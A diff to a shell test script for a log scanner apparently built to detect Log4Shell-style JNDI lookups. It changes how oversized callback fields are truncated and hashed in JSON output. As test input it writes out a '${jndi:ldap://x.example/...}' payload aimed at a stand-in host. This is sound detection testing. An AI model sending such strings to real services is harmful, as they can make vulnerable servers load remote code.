@@ -42,7 +42,8 @@ expect_grep "1/1 files" err.txt "--progress shows files"
 expect_grep "MB/s" err.txt "--progress shows MB/s"
 "$DEFUSE" logs hit.log > /dev/null 2> err.txt
 [ -s err.txt ] && fail "progress without a terminal" || ok "no progress on a pipe by default"
-# a huge callback is cut for people, kept whole in JSON
+# a huge callback is cut for people; in JSON a field past 4 KiB keeps its
+# start, its length and its SHA-256 (DEFUSE_JSON_MAX_FIELD)
 python3 -c 'print("${jndi:ldap://x.example/" + "A" * 5000 + "}")' > longcb.log
 "$DEFUSE" logs longcb.log > out.txt
 [ "$(wc -c < out.txt)" -lt 600 ] && ok "human line cut" || fail "human line not cut: $(wc -c < out.txt) bytes"
@@ -50,7 +51,10 @@ expect_grep "...(5017 bytes)" out.txt "cut is announced with the full length"
 "$DEFUSE" logs --json longcb.log > out.json
 python3 -c '
 import json; r = json.loads(open("out.json").readline())
-assert r["callback"] == "ldap://x.example/" + "A" * 5000, len(r["callback"])' && ok "JSON keeps the whole callback" || fail "JSON callback cut"
+import hashlib; whole = "ldap://x.example/" + "A" * 5000
+assert whole.startswith(r["callback"]) and 1024 <= len(r["callback"]) < len(whole), len(r["callback"])
+assert r["callback_length"] == len(whole) and r["truncated"] is True
+assert r["callback_sha256"] == hashlib.sha256(whole.encode()).hexdigest()' && ok "JSON keeps the callback's start, length and SHA-256" || fail "JSON callback not bounded as documented"
 # several jobs give the same output as one
 for i in $(seq 1 20); do cp hit.log "h$i.log"; done
 "$DEFUSE" logs -j1 h*.log > one.txt; "$DEFUSE" logs -j2 h*.log > two.txt
